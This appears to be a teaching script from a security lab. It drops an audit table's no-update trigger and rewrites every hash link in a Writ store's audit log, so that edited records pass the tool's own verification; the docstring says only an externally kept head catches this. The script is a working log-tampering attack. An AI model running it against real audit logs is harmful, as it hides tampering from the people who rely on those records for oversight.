"""Recompute every link and hash of a Writ store's audit log.

This is the attack of step 4 of lab 5: someone who can write the store,
and knows how a record's hash is made (the source is public), edits a
record and then makes the whole chain consistent again, so that
`writ audit verify` finds nothing. Only a head kept elsewhere catches it.

Usage: python3 guided/rechain.py STORE.db
"""
import hashlib
import sqlite3
import sys

FIELDS = ("seq, time_ms, principal, program, operation, arguments, decision, "
          "rule, ledger_id, ledger_hash, prev_hash")

db = sqlite3.connect(sys.argv[1])
db.execute("DROP TRIGGER IF EXISTS audit_no_update")
prev = "0" * 64
rows = db.execute(f"SELECT {FIELDS} FROM audit ORDER BY seq").fetchall()
for row in rows:
    fields = ["" if v is None else str(v) for v in row]
    fields[-1] = prev  # the link to the record before
    # Each field is written as "LENGTH:TEXT;" (LENGTH in bytes), then hashed.
    text = "".join(f"{len(f.encode())}:{f};" for f in fields)
    digest = hashlib.sha256(text.encode()).hexdigest()
    db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE seq = ?", (prev, digest, row[0]))
    prev = digest
db.commit()
print(f"rechained {len(rows)} records; the log's head is now {len(rows)}:{prev}")
